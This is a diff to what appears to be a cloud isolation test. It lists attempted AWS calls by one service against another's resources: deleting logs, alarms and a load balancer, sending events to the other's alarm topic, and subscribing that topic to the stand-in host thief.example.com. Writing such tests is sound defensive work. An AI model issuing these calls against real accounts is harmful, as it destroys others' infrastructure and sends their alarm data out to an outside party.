@@ -188,6 +188,8 @@ APPLY = [
     Attempt("apply", "delete the other's log", "logs", "delete_log_group", {"logGroupName": "{other[service_log_group]}"}),
     Attempt("apply", "subscribe to the other's alarms", "sns", "subscribe",
             {"TopicArn": "{other_topic}", "Protocol": "https", "Endpoint": "https://thief.example.com"}),
+    Attempt("apply", "send events of its own to the other's alarms", "events", "put_targets",
+            {"Rule": "{own[service]}-thief", "Targets": [{"Id": "x", "Arn": "{other_topic}"}]}),
     Attempt("apply", "delete the other's alarms", "cloudwatch", "delete_alarms", {"AlarmNames": ["{other[service]}-errors"]}),
     Attempt("apply", "delete the other's load balancer", "elbv2", "delete_load_balancer",
             {"LoadBalancerArn": "{other_load_balancer}"}),
